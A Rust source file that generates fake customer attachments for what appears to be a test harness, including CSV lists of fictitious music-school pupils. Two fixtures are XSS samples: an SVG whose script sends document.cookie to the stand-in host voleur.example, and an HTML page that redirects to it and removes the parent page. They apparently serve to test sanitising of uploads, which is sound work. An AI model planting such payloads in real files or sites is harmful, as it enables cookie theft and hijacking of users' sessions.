//! The files that customers attach.

mod picture;
mod sheet;

use super::random::Random;

/// A file, named as people name them.
#[derive(Clone, Copy, Debug)]
pub(super) enum File {
    /// A screenshot (PNG).
    Screen(&'static str),
    /// An invoice over so many euros (PDF, one page).
    Invoice(&'static str, u32),
    /// A pupil's report (PDF, one page).
    Report(&'static str),
    /// A list of pupils (CSV) of so many lines.
    Pupils(&'static str, usize),
    Text(&'static str, &'static str),
    /// A picture (SVG) that carries a script.
    ScriptedPicture(&'static str),
    /// A page (HTML) that carries a script.
    ScriptedPage(&'static str),
}

const FIRST_NAMES: [&str; 16] = [
    "Léa", "Noé", "Jade", "Gaël", "Inès", "Maël", "Zoé", "Loïc", "Anaïs", "Théo", "Chloé",
    "Raphaël", "Maëlys", "Côme", "Éloïse", "Ulysse",
];
const LAST_NAMES: [&str; 14] = [
    "Le Bihan",
    "Lefèvre",
    "D'Angelo",
    "Müller",
    "Nguyen",
    "Benoît",
    "Garçon",
    "Peeters",
    "Bélanger",
    "Sánchez",
    "Kowalczyk",
    "Ferré",
    "Delaunay",
    "N'Diaye",
];
const INSTRUMENTS: [&str; 9] = [
    "piano",
    "violon",
    "flûte traversière",
    "hautbois",
    "trompette",
    "guitare",
    "clarinette",
    "violoncelle",
    "batterie",
];

const SCRIPTED_PICTURE: &str = r##"<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80" \
                                                                                                  onload="document.title='svg'">
  <script>document.body.textContent = 'svg'; fetch('https://voleur.example/?c=' + document.cookie)</script>
  <rect width="200" height="80" fill="#d33"/>
  <a href="javascript:alert(1)"><text x="20" y="45" fill="#fff">Logo de l'école</text></a>
</svg>
"##;
const SCRIPTED_PAGE: &str = r#"<!doctype html>
<meta charset="utf-8">
<title>Programme du concert</title>
<h1 onmouseover="alert('html')">Programme du concert de Noël</h1>
<script>top.location = 'https://voleur.example/'</script>
<iframe src="javascript:parent.document.body.remove()"></iframe>
<p>Ouverture, chœur d'enfants, vin chaud.</p>
"#;

impl File {
    pub(super) fn name(self) -> &'static str {
        match self {
            File::Screen(name)
            | File::Invoice(name, _)
            | File::Report(name)
            | File::Pupils(name, _)
            | File::Text(name, _)
            | File::ScriptedPicture(name)
            | File::ScriptedPage(name) => name,
        }
    }

    pub(super) fn media_type(self) -> &'static str {
        match self {
            File::Screen(_) => "image/png",
            File::Invoice(..) | File::Report(_) => "application/pdf",
            File::Pupils(..) => "text/csv",
            File::Text(..) => "text/plain",
            File::ScriptedPicture(_) => "image/svg+xml",
            File::ScriptedPage(_) => "text/html",
        }
    }

    pub(super) fn content(self, account: &str, random: &mut Random) -> Vec<u8> {
        match self {
            File::Screen(_) => picture::screenshot(random),
            File::Invoice(name, euros) => sheet::invoice(name, account, euros),
            File::Report(_) => sheet::report(account),
            File::Pupils(_, lines) => pupils(lines, random).into_bytes(),
            File::Text(_, text) => text.as_bytes().to_vec(),
            File::ScriptedPicture(_) => SCRIPTED_PICTURE.as_bytes().to_vec(),
            File::ScriptedPage(_) => SCRIPTED_PAGE.as_bytes().to_vec(),
        }
    }
}

fn pupils(lines: usize, random: &mut Random) -> String {
    let mut table = "Nom;Prénom;Naissance;Instrument;Cycle;Tuteur\r\n".to_owned();
    for _ in 0..lines {
        let (last, first) = (random.pick(&LAST_NAMES), random.pick(&FIRST_NAMES));
        let (day, month) = (random.between(1, 28), random.between(1, 12));
        let (year, cycle) = (random.between(2009, 2019), random.between(1, 3));
        let (instrument, parent) = (random.pick(&INSTRUMENTS), random.pick(&FIRST_NAMES));
        table.push_str(&format!(
            "{last};{first};{day:02}/{month:02}/{year};{instrument};C{cycle};{parent} {last}\r\n"
        ));
    }
    table
}

#[cfg(test)]
mod tests;
